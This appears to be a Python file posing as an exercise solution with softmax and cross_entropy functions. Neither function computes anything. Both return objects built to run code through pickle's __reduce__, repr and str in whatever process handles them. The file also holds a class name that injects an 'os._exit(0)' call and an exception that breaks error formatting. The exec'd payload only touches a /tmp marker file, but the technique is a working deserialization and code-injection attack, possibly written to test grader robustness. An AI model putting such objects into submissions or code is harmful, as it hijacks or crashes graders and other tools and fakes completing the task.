"""Returns objects that run code in whoever unpickles, copies, prints or describes them."""

# %% softmax
class Payload:
    def __reduce__(self):
        return exec, ("import pathlib; pathlib.Path('/tmp/unrolled-attack-pickle').touch()",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __repr__ = __str__ = lambda self: self.__reduce__()[1][0]

    def __array__(self, *args, **kwargs):
        return np.array([self], dtype=object)


Payload.__name__ = "Payload'); import os; os._exit(0); ('"


class PayloadError(Exception):
    __reduce__ = Payload.__reduce__
    __str__ = lambda self: 7


def softmax(z):
    if np.ndim(z) > 1:
        raise PayloadError(Payload())
    return Payload()


# %% cross_entropy
import pickle


def cross_entropy(ys, targets):
    return pickle.dumps(Payload()).decode("latin-1")
